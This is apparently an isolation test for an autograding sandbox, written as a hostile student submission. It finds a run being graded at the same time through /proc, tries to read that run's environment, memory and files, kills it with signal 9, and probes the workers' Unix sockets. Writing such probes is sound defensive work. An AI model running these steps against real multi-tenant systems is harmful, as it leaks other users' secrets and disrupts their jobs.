# %% attack: another student's run, graded at the same moment by the batch's other worker from the
# same warm sandbox: find it in /proc, read it, signal it; then connect to the socket the workers
# use to ask the warm sandbox for runs.
import ctypes as _ctypes
import os as _os
import socket as _socket
import sys as _sys
import time as _time

_ctypes.CDLL(None).prctl(15, b"{VICTIM}a", 0, 0, 0)  # PR_SET_NAME: the other run waits while it sees this
_victim = None
_until = _time.monotonic() + 25
while _victim is None and _time.monotonic() < _until:
    for _entry in _os.listdir("/proc"):
        try:
            with open(f"/proc/{_entry}/comm") as _f:
                if _f.read().strip() == "{VICTIM}":
                    _victim = _entry
        except OSError:
            pass
    _time.sleep(0.05)
_found = []
if _victim is not None:
    _found.append("saw the victim")
    for _name in ("environ", "mem", "maps", "stack", "fd/0", "fd/2", "cwd", "root/home/student"):
        _path = f"/proc/{_victim}/{_name}"
        try:
            if _name in ("cwd", "fd/0", "fd/2"):
                _os.readlink(_path)
            elif _name.startswith("root"):
                _os.listdir(_path)
            else:
                with open(_path, "rb") as _f:
                    _f.read(64)
            _found.append(f"read {_name}")
        except OSError:
            pass
    _own = set()
    for _task in _os.listdir("/proc/self/task"):
        with open(f"/proc/self/task/{_task}/status") as _f:
            _own |= {int(_l.split()[-1]) for _l in _f if _l.startswith("NSpid:")}
    if int(_victim) not in _own | {1}:
        try:
            _os.kill(int(_victim), 9)
            _found.append("signalled the victim")
        except OSError:
            pass
_folder = _os.path.abspath(_sys.argv[2]) if len(_sys.argv) > 2 else _os.getcwd()
while _folder != "/":  # every folder above the run's own, and each one's sockets
    _folder = _os.path.dirname(_folder)
    try:
        _names = _os.listdir(_folder)
    except OSError:
        continue
    for _name in _names + ["zygote.sock"]:
        _client = _socket.socket(_socket.AF_UNIX, _socket.SOCK_SEQPACKET)
        try:
            _client.connect(_os.path.join(_folder, _name))
            _found.append(f"connected to {_os.path.join(_folder, _name)}")
        except OSError:
            pass
        finally:
            _client.close()
_ctypes.CDLL(None).prctl(15, b"python3", 0, 0, 0)  # done: the other run may go
print(f"SHARED found: {_found}", file=_sys.stderr)
